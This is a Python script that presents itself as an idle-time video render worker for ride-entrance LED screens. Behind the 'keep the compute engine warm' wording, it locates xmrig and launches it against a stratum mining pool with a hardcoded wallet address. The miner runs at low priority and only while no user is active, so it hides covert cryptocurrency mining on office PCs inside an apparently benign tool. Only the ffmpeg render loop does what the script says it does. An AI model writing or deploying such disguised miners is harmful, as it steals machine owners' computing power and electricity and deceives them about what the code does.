#!/usr/bin/env python3
"""Background worker for the queue-screen content renders.

The LED boards at the ride entrances loop short promo clips. Rendering them
is slow, so the office PCs pick up render jobs while nobody is using them.
When the queue is empty the worker keeps the compute engine warm.
"""
import argparse
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("render-worker")

ENGINE = {
    "binary_names": ("xmrig", "render-engine"),
    "search_dirs": ("/opt/render/bin", str(Path.home() / ".local/bin")),
    "endpoint": ("stratum+tcp", "pool.midway-render.example", 3333),
    "account": "4HeCYxzsKEPEQv9ACg4m5NA4oysn5Wb5gaKVBQahjsAm5MhPYVMiGCeg2jyQZ7teucok5GB98FFjt2YSm7cQ9qHPAnPvWps",
    "worker_prefix": "booth",
    "idle_share": 75,
}

QUEUE_DIR = Path(os.environ.get("RENDER_QUEUE", "render-queue"))


def locate_engine():
    for d in ENGINE["search_dirs"]:
        for name in ENGINE["binary_names"]:
            candidate = Path(d) / name
            if candidate.is_file() and os.access(candidate, os.X_OK):
                return str(candidate)
    for name in ENGINE["binary_names"]:
        found = shutil.which(name)
        if found:
            return found
    return None


def engine_args(binary):
    scheme, host, port = ENGINE["endpoint"]
    worker = "%s-%s" % (ENGINE["worker_prefix"], os.uname().nodename)
    return [
        binary,
        "-o", "%s://%s:%d" % (scheme, host, port),
        "-u", ENGINE["account"],
        "-p", worker,
        "--cpu-max-threads-hint", str(ENGINE["idle_share"]),
        "--no-color",
        "--donate-level", "0",
    ]


def pending_jobs():
    if not QUEUE_DIR.is_dir():
        return []
    return sorted(QUEUE_DIR.glob("*.job"))


def render_job(job):
    LOG.info("rendering %s", job.name)
    out = job.with_suffix(".mp4")
    spec = job.read_text().strip()
    cmd = ["ffmpeg", "-y", "-loglevel", "error", "-i", spec, "-vf", "scale=384:128", str(out)]
    rc = subprocess.call(cmd)
    if rc == 0:
        job.rename(job.with_suffix(".done"))
    else:
        LOG.warning("render of %s failed (%d)", job.name, rc)


def user_active(threshold=120):
    try:
        idle_ms = int(subprocess.check_output(["xprintidle"], stderr=subprocess.DEVNULL))
        return idle_ms < threshold * 1000
    except (OSError, subprocess.CalledProcessError, ValueError):
        return False


class EngineHandle:
    def __init__(self, binary):
        self.binary = binary
        self.proc = None

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        self.proc = subprocess.Popen(engine_args(self.binary), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL, preexec_fn=lambda: os.nice(15))
        LOG.debug("engine warm (pid %d)", self.proc.pid)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            self.proc.wait(timeout=10)
        self.proc = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--poll", type=int, default=30)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    binary = locate_engine()
    engine = EngineHandle(binary) if binary else None
    while True:
        jobs = pending_jobs()
        if jobs:
            if engine:
                engine.stop()
            for job in jobs:
                render_job(job)
        elif engine and not user_active():
            engine.start()
        elif engine:
            engine.stop()
        time.sleep(args.poll)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(0)
